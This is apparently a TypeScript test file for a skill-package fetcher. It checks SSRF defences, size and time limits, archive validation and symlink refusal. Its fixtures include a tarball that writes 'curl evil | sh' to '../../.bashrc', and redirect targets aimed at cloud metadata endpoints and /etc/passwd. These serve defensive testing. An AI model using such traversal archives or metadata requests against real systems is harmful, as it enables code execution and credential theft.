/**
 * fetchSkillSource against real HTTP(S) servers on 127.0.0.1, with DNS played by an injected
 * resolver, and readSkillFolder against real folders. The skill server's port is opened by
 * allowPrivate; a canary server on another port of 127.0.0.1 counts every request that reaches it,
 * and must end at zero: redirects to it, to private and metadata addresses, and to names that
 * resolve there are all refused before a connection is made.
 */
import { mkdirSync, symlinkSync } from "node:fs";
import { createServer, type IncomingMessage, type Server, type ServerResponse } from "node:http";
import { createServer as createTlsServer } from "node:https";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { gzipSync } from "node:zlib";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { makeTar, makeZip, refusal, run, skillMd, tempDir, writeFiles } from "../../test/helpers/archives.js";
import type { Resolver } from "../web/fetch.js";
import { DEFAULT_LIMITS } from "./files.js";
import { type FetchSkillOptions, fetchSkillSource, readSkillFolder } from "./source.js";

// A certificate for secure.test (self-signed, valid 2000–2100), trusted only through `ca` below.
const KEY = `-----BEGIN PRIVATE KEY-----
MIGHAgEAMBMGByqGSM49AgEGCCqGSM49AwEHBG0wawIBAQQgoYJZ5fXYJ9B9r0KE
tIWN5YzuS37rX5cGroyi6frt6rChRANCAAR6uVi9tZA5xnogADCvpV/r+x3XqR0L
GK0/XjePWCbhcjv3ElZmdl7+KMSKm6G6LCWhKzTngPXBboGxS2qPRtSb
-----END PRIVATE KEY-----
`;
const CERT = `-----BEGIN CERTIFICATE-----
MIIBaDCCAQ2gAwIBAgIBATAKBggqhkjOPQQDAjAWMRQwEgYDVQQDDAtzZWN1cmUu
dGVzdDAgFw0wMDAxMDEwMDAwMDBaGA8yMTAwMDEwMTAwMDAwMFowFjEUMBIGA1UE
AwwLc2VjdXJlLnRlc3QwWTATBgcqhkjOPQIBBggqhkjOPQMBBwNCAAR6uVi9tZA5
xnogADCvpV/r+x3XqR0LGK0/XjePWCbhcjv3ElZmdl7+KMSKm6G6LCWhKzTngPXB
boGxS2qPRtSbo0owSDAPBgNVHRMBAf8EBTADAQH/MBYGA1UdEQQPMA2CC3NlY3Vy
ZS50ZXN0MB0GA1UdDgQWBBSGDcYHJXA5MVYuSkA6/4ZsiNY8ITAKBggqhkjOPQQD
AgNJADBGAiEAlCYVAqU+6u4skWUH6DSbXDHTWJBh7+De6lRakbPaGjYCIQC6qsrp
xI84i8Nu9Y902aWsdfuZdeKbSq0BPZmzb3eE7w==
-----END CERTIFICATE-----
`;

const SKILL = skillMd();
const GUIDE = "# Guide\n";
const TGZ = gzipSync(
  makeTar([
    { name: "demo-skill/SKILL.md", body: SKILL },
    { name: "demo-skill/refs/guide.md", body: GUIDE },
  ]),
);
const ZIP = makeZip([
  { name: "SKILL.md", data: SKILL },
  { name: "refs/guide.md", data: GUIDE },
]);
const EVIL_TGZ = gzipSync(
  makeTar([
    { name: "SKILL.md", body: SKILL },
    { name: "../../.bashrc", body: "curl evil | sh" },
  ]),
);

type Handler = (req: IncomingMessage, res: ServerResponse) => void;

interface TestServer {
  server: Server;
  port: number;
  seen: string[];
}

async function listen(server: Server): Promise<number> {
  await new Promise<void>((done) => server.listen(0, "127.0.0.1", done));
  return (server.address() as AddressInfo).port;
}

async function startServer(handler: Handler, tls = false): Promise<TestServer> {
  const seen: string[] = [];
  const wrapped: Handler = (req, res) => {
    seen.push(req.url ?? "");
    handler(req, res);
  };
  const server = tls ? createTlsServer({ key: KEY, cert: CERT }, wrapped) : createServer(wrapped);
  return { server, port: await listen(server), seen };
}

const close = (s: Server | undefined) =>
  new Promise<void>((done) => {
    if (!s) return done();
    s.closeAllConnections();
    s.close(() => done());
  });

const send = (
  res: ServerResponse,
  type: string,
  body: string | Buffer,
  extra: Record<string, string> = {},
) => {
  res.writeHead(200, { "content-type": type, ...extra });
  res.end(body);
};

/** The skill server's routes. */
const routes: Record<string, Handler> = {
  "/SKILL.md": (_q, res) => send(res, "text/markdown; charset=utf-8", SKILL),
  "/raw/demo": (_q, res) => send(res, "text/plain", SKILL),
  "/named/SKILL.md": (_q, res) => send(res, "application/octet-stream", SKILL),
  "/demo.tgz": (_q, res) => send(res, "application/gzip", TGZ),
  "/download": (_q, res) => send(res, "application/octet-stream", ZIP),
  "/encoded.tar.gz": (_q, res) => send(res, "application/x-tar", TGZ, { "content-encoding": "gzip" }),
  "/evil.tgz": (_q, res) => send(res, "application/gzip", EVIL_TGZ),
  "/blob/SKILL.md": (_q, res) => send(res, "text/html", "<html><body>SKILL.md on a code host</body></html>"),
  "/logo.png": (_q, res) => send(res, "image/png", Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 0])),
  "/fake.zip": (_q, res) => send(res, "text/plain", "this is no zip"),
  "/big-skill/SKILL.md": (_q, res) =>
    send(res, "text/markdown", skillMd("demo-skill", "x".repeat(70 * 1024))),
  "/big.tgz": (_q, res) => send(res, "application/gzip", Buffer.alloc(8192, 1)),
  "/chunked.tgz": (_q, res) => {
    res.writeHead(200, { "content-type": "application/gzip" });
    for (let i = 0; i < 8; i++) res.write(Buffer.alloc(1024, 1));
    res.end();
  },
  "/missing": (_q, res) => {
    res.writeHead(404);
    res.end("gone");
  },
  "/broken": (_q, res) => {
    res.writeHead(500);
    res.end("oops");
  },
  "/hang": () => {
    // Never answers: the time cap or the signal must end the call.
  },
  "/stall": (_q, res) => {
    // Headers and a little, then nothing: the cap covers the body too.
    res.writeHead(200, { "content-type": "application/gzip" });
    res.write(TGZ.subarray(0, 10));
  },
};

describe("fetchSkillSource", () => {
  let site: TestServer;
  let canary: TestServer;
  let secure: TestServer;
  const names: Record<string, string[]> = {};
  const resolve: Resolver = async (hostname) => {
    const answer = names[hostname];
    if (!answer) throw Object.assign(new Error(`getaddrinfo ENOTFOUND ${hostname}`), { code: "ENOTFOUND" });
    return answer;
  };

  beforeAll(async () => {
    canary = await startServer((_q, res) => res.end("CANARY"));
    site = await startServer((req, res) => {
      const url = new URL(req.url ?? "/", "http://x");
      const to = url.searchParams.get("to");
      if (url.pathname === "/redirect" && to) {
        res.writeHead(302, { location: to });
        res.end();
        return;
      }
      (routes[url.pathname] ?? routes["/missing"])?.(req, res);
    });
    secure = await startServer((_q, res) => send(res, "text/markdown", SKILL), true);
  });

  afterAll(async () => {
    await Promise.all([close(site?.server), close(canary?.server), close(secure?.server)]);
  });

  beforeEach(() => {
    canary.seen.length = 0;
    for (const key of Object.keys(names)) delete names[key];
  });

  const at = (path: string) => `http://127.0.0.1:${site.port}${path}`;
  const fetchAs = (url: string, extra: Partial<FetchSkillOptions> = {}) =>
    fetchSkillSource(url, {
      allowPrivate: [`127.0.0.1:${site.port}`, `127.0.0.1:${secure.port}`],
      signal: new AbortController().signal,
      maxBytes: 4096,
      timeoutMs: 10_000,
      resolve,
      ca: CERT,
      ...extra,
    });
  const text = (files: Map<string, Buffer>) =>
    Object.fromEntries([...files].map(([path, content]) => [path, content.toString()]));

  it("fetches a SKILL.md by its name or by a text/markdown or text/plain type", async () => {
    for (const path of ["/SKILL.md", "/raw/demo", "/named/SKILL.md"]) {
      expect(text(await fetchAs(at(path))), path).toEqual({ "SKILL.md": SKILL });
    }
  });

  it("fetches a .tar.gz and a .zip, told by their bytes, not their names", async () => {
    const both = { "SKILL.md": SKILL, "refs/guide.md": GUIDE };
    expect(text(await fetchAs(at("/demo.tgz")))).toEqual(both);
    expect(text(await fetchAs(at("/download")))).toEqual(both);
    // A server that adds Content-Encoding: gzip to a .tar.gz: the guard decodes it, a plain tar is read.
    expect(text(await fetchAs(at("/encoded.tar.gz")))).toEqual(both);
  });

  it("fetches over https from an allowed address, checking the certificate against the name", async () => {
    names["secure.test"] = ["127.0.0.1"];
    expect(text(await fetchAs(`https://secure.test:${secure.port}/SKILL.md`))).toEqual({ "SKILL.md": SKILL });
    names["other.test"] = ["127.0.0.1"];
    expect(await refusal(() => fetchAs(`https://other.test:${secure.port}/SKILL.md`))).toMatchObject({
      code: "PROVIDER_ERROR",
    });
  });

  it("refuses a URL on a private address that allowPrivate does not open", async () => {
    const direct = await refusal(() => fetchAs(`http://127.0.0.1:${canary.port}/SKILL.md`));
    expect(direct).toMatchObject({ code: "FORBIDDEN" });
    expect(direct.message).toMatch(
      /127\.0\.0\.1 is a loopback address \(\[moves\.skills\] allow_private allows it on port/,
    );
    const closed = await refusal(() => fetchAs(at("/SKILL.md"), { allowPrivate: [] }));
    expect(closed.message).toMatch(
      /only a loopback address listed itself in \[moves\.skills\] allow_private/,
    );
    names["evil.test"] = ["127.0.0.1"];
    expect(await refusal(() => fetchAs(`http://evil.test:${canary.port}/SKILL.md`))).toMatchObject({
      code: "FORBIDDEN",
      message: expect.stringContaining("evil.test resolves to 127.0.0.1"),
    });
    expect(canary.seen).toEqual([]);
  });

  it("refuses a redirect to a private, loopback or metadata address before connecting", async () => {
    names["evil.test"] = ["127.0.0.1"];
    names["intranet.test"] = ["10.0.0.7"];
    for (const target of [
      `http://127.0.0.1:${canary.port}/SKILL.md`,
      `http://[::ffff:127.0.0.1]:${canary.port}/SKILL.md`,
      `http://evil.test:${canary.port}/SKILL.md`,
      "http://169.254.169.254/latest/meta-data/",
      "http://metadata.google.internal/computeMetadata/v1/",
      "http://10.0.0.7/skill.tgz",
      "https://intranet.test/skill.tgz",
      "file:///etc/passwd",
    ]) {
      const error = await refusal(() => fetchAs(at(`/redirect?to=${encodeURIComponent(target)}`)));
      expect(error.code, target).toBe("FORBIDDEN");
      expect(error.message, target).toMatch(/redirect \(hop 1\)|metadata service/);
    }
    expect(canary.seen).toEqual([]);
  });

  it("refuses plain http to a public address, first URL or redirect; https is for the internet", async () => {
    names["public.test"] = ["93.184.216.34"];
    const first = await refusal(() => fetchAs("http://public.test/SKILL.md"));
    expect(first).toMatchObject({ code: "FORBIDDEN" });
    expect(first.message).toMatch(
      /skills are fetched over https; plain http only from an address \[moves\.skills\]/,
    );
    const hop = await refusal(() =>
      fetchAs(at(`/redirect?to=${encodeURIComponent("http://public.test/x.tgz")}`)),
    );
    expect(hop).toMatchObject({
      code: "FORBIDDEN",
      message: expect.stringContaining("the redirect (hop 1)"),
    });
  });

  it("gives up on a slow server at timeoutMs, and stops when the signal fires", async () => {
    for (const path of ["/hang", "/stall"]) {
      const slow = await refusal(() => fetchAs(at(path), { timeoutMs: 300 }));
      expect(slow, path).toMatchObject({ code: "MOVE_TIMEOUT" });
      expect(slow.message).toMatch(/did not answer in full within 0\.3 s/);
    }
    const controller = new AbortController();
    const reason = new Error("request cancelled");
    const pending = fetchAs(at("/hang"), { signal: controller.signal });
    setTimeout(() => controller.abort(reason), 50);
    await expect(pending).rejects.toBe(reason);
  });

  it("says NOT_FOUND for a 404 and PROVIDER_ERROR for another failure", async () => {
    expect(await refusal(() => fetchAs(at("/missing")))).toMatchObject({ code: "NOT_FOUND" });
    expect(await refusal(() => fetchAs(at("/broken")))).toMatchObject({
      code: "PROVIDER_ERROR",
      message: expect.stringContaining("answered 500"),
    });
    // Nothing listens on port 1.
    expect(
      await refusal(() => fetchAs("http://127.0.0.1:1/x", { allowPrivate: ["127.0.0.1"] })),
    ).toMatchObject({
      code: "PROVIDER_ERROR",
    });
  });

  it("refuses a download over maxBytes, declared or not", async () => {
    for (const path of ["/big.tgz", "/chunked.tgz"]) {
      expect(await refusal(() => fetchAs(at(path))), path).toMatchObject({
        code: "PAYLOAD_TOO_LARGE",
        reason: "download_too_large",
      });
    }
    expect(await refusal(() => fetchAs(at("/big-skill/SKILL.md"), { maxBytes: 1024 * 1024 }))).toMatchObject({
      code: "PAYLOAD_TOO_LARGE",
      reason: "file_too_large",
    });
  });

  it("refuses web pages, images, a fake archive, and an archive's bad entries", async () => {
    expect(await refusal(() => fetchAs(at("/blob/SKILL.md")))).toMatchObject({
      code: "UNSUPPORTED_MEDIA_TYPE",
      reason: "not_a_skill",
      message: expect.stringContaining("link to the raw file"),
    });
    expect(await refusal(() => fetchAs(at("/logo.png")))).toMatchObject({ reason: "not_a_skill" });
    expect(await refusal(() => fetchAs(at("/fake.zip")))).toMatchObject({
      code: "UNSUPPORTED_MEDIA_TYPE",
      reason: "unsupported_archive",
    });
    expect(await refusal(() => fetchAs(at("/evil.tgz")))).toMatchObject({
      code: "FORBIDDEN",
      reason: "path_traversal",
    });
  });

  it("refuses what is no http(s) URL, and a bad allowPrivate entry", async () => {
    for (const url of ["file:///etc/passwd", "ftp://example.com/x.zip", "not a url"]) {
      expect((await refusal(() => fetchAs(url))).code, url).toBe("VALIDATION_FAILED");
    }
    const bad = await refusal(() => fetchAs(at("/SKILL.md"), { allowPrivate: ["http://x/"] }));
    expect(bad).toMatchObject({ code: "CONFIG_INVALID", extra: { path: "moves.skills.allow_private" } });
  });
});

describe("readSkillFolder", () => {
  let work: ReturnType<typeof tempDir>;
  beforeAll(() => {
    work = tempDir();
  });
  afterAll(() => work.remove());

  const folder = (name: string, files: Record<string, string | Buffer>) => {
    const root = join(work.dir, name);
    mkdirSync(root, { recursive: true });
    writeFiles(root, files);
    return root;
  };

  it("reads regular files and folders, paths with /", async () => {
    const root = folder("plain", { "SKILL.md": SKILL, "refs/deep/guide.md": GUIDE, "empty.txt": "" });
    mkdirSync(join(root, "no-files"));
    const files = await readSkillFolder(root);
    expect([...files.keys()].sort()).toEqual(["SKILL.md", "empty.txt", "refs/deep/guide.md"]);
    expect(files.get("refs/deep/guide.md")?.toString()).toBe(GUIDE);
    // The folder itself may be reached through a link: it is the path the user gave.
    symlinkSync(root, join(work.dir, "via-link"));
    expect((await readSkillFolder(join(work.dir, "via-link"))).size).toBe(3);
  });

  it("refuses symlinks inside, to files or folders, outside or not, dangling or not", async () => {
    const outside = folder("outside", { "secret.txt": "do not read" });
    const links: [string, string][] = [
      ["to-file", join(outside, "secret.txt")],
      ["to-folder", outside],
      ["dangling", join(work.dir, "nothing-here")],
      ["inside", "SKILL.md"],
    ];
    for (const [name, target] of links) {
      const root = folder(`link-${name}`, { "SKILL.md": SKILL });
      mkdirSync(join(root, "refs"));
      symlinkSync(target, join(root, "refs", name));
      expect(await refusal(() => readSkillFolder(root)), name).toMatchObject({
        code: "FORBIDDEN",
        reason: "symlink",
        extra: { entry: `refs/${name}` },
      });
    }
  });

  it("refuses a FIFO without blocking on it", async () => {
    const root = folder("fifo", { "SKILL.md": SKILL });
    run(root, "mkfifo", ["pipe"]);
    expect(await refusal(() => readSkillFolder(root))).toMatchObject({
      code: "FORBIDDEN",
      reason: "special_file",
    });
  });

  it("holds the limits and needs SKILL.md at the root", async () => {
    const many = Object.fromEntries(
      Array.from({ length: DEFAULT_LIMITS.maxFiles }, (_, i) => [`n/${i}.md`, "x"]),
    );
    expect(
      await refusal(() => readSkillFolder(folder("many", { "SKILL.md": SKILL, ...many }))),
    ).toMatchObject({
      code: "PAYLOAD_TOO_LARGE",
      reason: "too_many_files",
    });
    const big = folder("big", {
      "SKILL.md": SKILL,
      "data.bin": Buffer.alloc(DEFAULT_LIMITS.maxFileBytes + 1, 7),
    });
    expect(await refusal(() => readSkillFolder(big))).toMatchObject({ reason: "file_too_large" });
    const nested = folder("nested", { "demo-skill/SKILL.md": SKILL });
    expect(await refusal(() => readSkillFolder(nested))).toMatchObject({
      code: "VALIDATION_FAILED",
      reason: "missing_skill_md",
    });
    const windows = folder("windows", { "SKILL.md": SKILL, "a\\b.md": "x" });
    expect(await refusal(() => readSkillFolder(windows))).toMatchObject({
      code: "FORBIDDEN",
      reason: "backslash",
    });
  });

  it("says NOT_FOUND for no folder and VALIDATION_FAILED for a file", async () => {
    expect(await refusal(() => readSkillFolder(join(work.dir, "absent")))).toMatchObject({
      code: "NOT_FOUND",
    });
    const root = folder("file-not-folder", { "SKILL.md": SKILL });
    expect(await refusal(() => readSkillFolder(join(root, "SKILL.md")))).toMatchObject({
      code: "VALIDATION_FAILED",
    });
  });
});
